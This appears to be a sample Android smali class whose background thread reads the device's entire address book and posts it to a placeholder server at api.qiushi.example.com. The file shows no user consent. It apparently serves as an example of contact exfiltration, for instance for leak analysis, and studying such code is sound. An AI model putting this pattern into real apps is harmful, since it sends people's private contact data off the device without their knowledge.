# SPDX-License-Identifier: Apache-2.0
.class public Lcom/example/qiushi/UploadThread;
.super Ljava/lang/Thread;
.source "UploadThread.java"

.field private final resolver:Landroid/content/ContentResolver;

.method public constructor <init>(Landroid/content/ContentResolver;)V
    .registers 2
    invoke-direct {p0}, Ljava/lang/Thread;-><init>()V
    iput-object p1, p0, Lcom/example/qiushi/UploadThread;->resolver:Landroid/content/ContentResolver;
    return-void
.end method

.method public run()V
    .locals 2
    iget-object v1, p0, Lcom/example/qiushi/UploadThread;->resolver:Landroid/content/ContentResolver;
    invoke-static {v1}, Lcom/example/qiushi/AddressBook;->read(Landroid/content/ContentResolver;)Ljava/lang/String;
    move-result-object v1
    const-string v0, "https://api.qiushi.example.com/contacts"
    invoke-static {v0, v1}, Lcom/example/qiushi/HttpPoster;->post(Ljava/lang/String;Ljava/lang/String;)V
    return-void
.end method
